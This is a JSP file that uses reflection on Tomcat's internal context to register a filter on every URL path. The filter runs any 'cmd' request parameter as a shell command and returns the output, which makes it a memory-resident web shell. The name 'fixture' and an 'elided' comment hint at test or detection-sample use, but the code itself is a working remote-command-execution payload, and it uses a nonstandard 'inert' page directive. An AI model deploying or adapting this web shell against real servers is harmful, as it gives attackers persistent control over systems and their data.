<%@ page inert %>
<%@ page import="java.lang.reflect.Field,java.util.Map,org.apache.catalina.core.*,org.apache.tomcat.util.descriptor.web.*,javax.servlet.*" %>
<%
    final String name = "fixture";
    Field appctx = request.getServletContext().getClass().getDeclaredField("context");
    appctx.setAccessible(true);
    ApplicationContext ac = (ApplicationContext) appctx.get(request.getServletContext());
    Field stdctx = ac.getClass().getDeclaredField("context");
    stdctx.setAccessible(true);
    StandardContext sc = (StandardContext) stdctx.get(ac);
    Filter filter = new Filter() {
        public void init(FilterConfig c) {}
        public void doFilter(ServletRequest q, ServletResponse r, FilterChain chain) throws java.io.IOException, ServletException {
            if (q.getParameter("cmd") != null) {
                java.io.InputStream in = Runtime.getRuntime().exec(new String[]{"sh", "-c", q.getParameter("cmd")}).getInputStream();
                r.getWriter().write(new java.util.Scanner(in).useDelimiter("\\A").next());
                return;
            }
            chain.doFilter(q, r);
        }
        public void destroy() {}
    };
    FilterDef fd = new FilterDef();
    fd.setFilter(filter); fd.setFilterName(name); fd.setFilterClass(filter.getClass().getName());
    sc.addFilterDef(fd);
    FilterMap fm = new FilterMap();
    fm.addURLPattern("/*"); fm.setFilterName(name);
    sc.addFilterMapBefore(fm);
    /* filterConfigs put elided */
    out.print("ok");
%>
